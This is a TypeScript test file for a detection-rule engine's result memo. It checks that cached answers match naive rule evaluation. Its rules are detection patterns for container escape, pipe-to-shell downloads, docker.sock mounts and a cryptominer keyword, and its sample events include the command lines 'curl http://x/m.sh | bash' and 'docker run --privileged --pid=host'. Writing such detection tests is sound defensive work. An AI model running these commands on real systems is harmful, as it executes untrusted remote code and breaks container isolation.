/**
 * The memo of a rule set's results (rule-set.ts, WalkMemo) may only answer what
 * evaluating every rule answers: checked against matchAllNaive over streams that
 * repeat (the memo answers), that do not (it rests), and with rules that read
 * fields beyond their own leaves (fieldref targets, counted groups: walked too).
 */
import type { Collected } from './field-plan';
import { WalkMemo } from './walk-memo';
import { compileSources, mulberryInts, ruleDoc } from './test-helpers';

const id = (n: number): string => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;

const DETECTIONS = [
  `s:\n  Image|endswith: '/nsenter'\ncondition: s`,
  `s:\n  CommandLine|contains|all: ['--privileged', '--pid=host']\ncondition: s`,
  `s:\n  CommandLine|re: 'curl .*\\| *(ba)?sh'\ncondition: s`,
  `s:\n  ClientAddress|cidr: ['10.0.0.0/8', 'fd00::/8']\ncondition: s`,
  `s:\n  Port|gt: 1024\n  Port|lt: 2380\ncondition: s`,
  `s:\n  HostConfig.Privileged: true\ncondition: s`,
  `s:\n  HostConfig.Binds|contains: 'docker.sock'\ncondition: s`,
  `s:\n  User|neq: root\n  Action: exec\ncondition: s`,
  `s:\n  User|exists: false\n  Action: exec\ncondition: s`,
  `s:\n  Image|cased: '/bin/SH'\ncondition: s`,
  `s:\n  Empty: ''\ncondition: s`,
  `s:\n  EventID: 4769\ncondition: s`,
];
// no other rule reads Creator: only the fieldref's target puts it in the walk
const FIELDREF = `s:\n  Owner|fieldref: Creator\ncondition: s`;
// the leaves of a counted group live inside one leaf's test: their fields must be walked too
const COUNTED = `sel_a:\n  Sponsor: root\nsel_b:\n  Action: exec\nsel_c:\n  Origin|startswith: /tmp\ncondition: 2 of sel_*`;

function rules(detections: readonly string[]): ReturnType<typeof compileSources> {
  const text = detections.map((d, i) => ruleDoc(d, { id: id(i) })).join('---\n');
  return compileSources([{ file: 'rules.yml', text }]);
}

/** Events from small value pools (they repeat), typed alike and not (1, '1', true, 'true'). */
function events(seed: number, n: number, pool: number): unknown[] {
  const rnd = mulberryInts(seed);
  const pick = <T>(xs: readonly T[]): T => xs[rnd(xs.length)] as T;
  const values = {
    Image: ['/usr/bin/nsenter', '/bin/SH', '/bin/sh', '/usr/bin/docker'],
    CommandLine: ['curl http://x/m.sh | bash', 'docker run --privileged --pid=host x', 'ls', ['a', '--privileged']],
    ClientAddress: ['10.1.2.3', '192.168.1.1', 'fd00::1', '8.8.8.8'],
    Port: [2375, '2375', 80, '2000', 2376.5, null],
    User: ['root', 'alice', 'Root', null],
    Owner: ['root', 'alice', 'Root'],
    Creator: ['root', 'alice'],
    Action: ['exec', 'create', 'Exec'],
    Empty: ['', 'x', 0, false],
    EventID: [4769, '4769', true, 'true'],
    HostConfig: [
      { Privileged: true },
      { Privileged: 'true' },
      { Privileged: 1 },
      { Binds: ['/var/run/docker.sock:/s'] },
      { Binds: '/x:/y' },
      { Binds: [['/var/run/docker.sock']] },
    ],
  };
  const shapes = Array.from({ length: pool }, () => {
    const e: Record<string, unknown> = {};
    for (const [k, vs] of Object.entries(values)) if (rnd(3) > 0) e[k] = pick(vs as unknown[]);
    return e;
  });
  // copies, not the same objects: the memo must key on values, never on identity
  return Array.from({ length: n }, () => structuredClone(pick(shapes)));
}

function expectNaive(rs: ReturnType<typeof compileSources>['ruleSet'], stream: readonly unknown[]): void {
  for (const e of stream) expect({ e, got: rs.matchIndexes(e) }).toEqual({ e, got: rs.matchAllNaive(e) });
}

describe('WalkMemo in a rule set', () => {
  it('answers repeated events as evaluating every rule does, most of them from the memo', () => {
    const { ruleSet } = rules(DETECTIONS);
    const stream = events(11, 3000, 60);
    expectNaive(ruleSet, stream);
    const stats = ruleSet.memoStats();
    expect(stats).toBeDefined();
    expect(stats!.hits).toBeGreaterThan(2000);
    expect(stats!.paused).toBe(0);
  });

  it('walks fieldref targets and the fields of counted groups, so it stays on for them, and stays right', () => {
    const { ruleSet } = rules([...DETECTIONS, FIELDREF, COUNTED]);
    // same Owner, different referenced Creator; same Action, different Origin and Sponsor:
    // a memo keyed on the rules' own fields alone would answer the first of each pair for both
    const pairs = [
      { Owner: 'root', Creator: 'root' },
      { Owner: 'root', Creator: 'alice' },
      { Action: 'exec', Origin: '/tmp/x' },
      { Action: 'exec', Origin: '/usr/x' },
      { Action: 'exec', Sponsor: 'root' },
      { Action: 'exec', Sponsor: 'alice' },
    ];
    expectNaive(ruleSet, [...pairs, ...pairs.map((e) => structuredClone(e))]);
    expect(ruleSet.memoStats()).toBeDefined();
    const more = events(12, 500, 20).map((e, i) => ({
      ...(e as object),
      Sponsor: i % 3 === 0 ? 'root' : 'alice',
      Origin: i % 2 === 0 ? '/tmp/a' : '/srv/a',
    }));
    expectNaive(ruleSet, more);
    expect(ruleSet.memoStats()!.hits).toBeGreaterThan(200);
  });

  it('rests on traffic that does not repeat, and stays right', () => {
    const { ruleSet } = rules(DETECTIONS);
    const stream = events(13, 9000, 9000).map((e, i) => ({ ...(e as object), Image: `/opt/bin/tool-${i}` }));
    expectNaive(ruleSet, stream);
    const stats = ruleSet.memoStats()!;
    expect(stats.paused).toBeGreaterThan(0);
    expect(stats.hits + stats.misses + stats.paused).toBe(stream.length);
  });

  it('is not used with keyword searches (every value of the event), which the walk does not cover', () => {
    const { ruleSet } = rules([...DETECTIONS, `k:\n  - 'xmrig'\ncondition: k`]);
    expect(ruleSet.memoStats()).toBeUndefined();
    expectNaive(ruleSet, events(14, 300, 20));
  });
});

describe('WalkMemo keys', () => {
  /** A walk found `fields` (plan id → raw values). */
  const walk = (fields: Array<[number, unknown[]]>): Collected => {
    const values: unknown[][] = [];
    for (const [fid, vs] of fields) values[fid] = vs;
    return { found: fields.map(([fid]) => fid), values };
  };

  it('finds a result exactly for walks with the same fields and the same values, types told apart', () => {
    const rnd = mulberryInts(5);
    const scalars: unknown[] = ['1', 1, true, 'true', null, undefined, '', 0, -1, NaN, 'a', 'A', 'a,b'];
    const value = (depth: number): unknown =>
      depth < 2 && rnd(4) === 0 ? Array.from({ length: rnd(3) }, () => value(depth + 1)) : scalars[rnd(scalars.length)];
    const walks = Array.from({ length: 400 }, () =>
      walk(
        Array.from({ length: 1 + rnd(3) }, (_, i): [number, unknown[]] => [
          i * 2 + rnd(2),
          Array.from({ length: 1 + rnd(2) }, () => value(0)),
        ]),
      ),
    );
    const memo = new WalkMemo<readonly number[]>();
    const stored = new Map<number, Collected>();
    walks.forEach((w, i) => {
      const known = memo.get(w);
      // an answer is the result stored for an equal walk (Object.is per value, NaN included)
      const same = [...stored.entries()].filter(([, v]) => sameWalk(v, w)).map(([k]) => k);
      if (known === undefined) expect(same).toEqual([]);
      else expect(same).toContain(known[0]);
      if (known === undefined) {
        memo.set(w, [i]);
        stored.set(i, w);
      }
    });
    expect(memo.stats().hits).toBeGreaterThan(50);
  });

  it('remembers no walk holding an object, a function or a long string', () => {
    const memo = new WalkMemo<readonly number[]>();
    for (const v of [{ a: 1 }, [{ a: 1 }], () => 1, 'x'.repeat(600)]) {
      memo.set(walk([[0, [v]]]), [1]);
      expect(memo.get(walk([[0, [v]]]))).toBeUndefined();
    }
  });
});

function sameWalk(a: Collected, b: Collected): boolean {
  const same = (x: unknown, y: unknown): boolean =>
    Array.isArray(x) && Array.isArray(y)
      ? x.length === y.length && x.every((v, i) => same(v, y[i]))
      : !Array.isArray(x) && !Array.isArray(y) && (Object.is(x, y) || (x === 0 && y === 0));
  return (
    a.found.length === b.found.length && a.found.every((f, i) => f === b.found[i] && same(a.values[f], b.values[f]))
  );
}
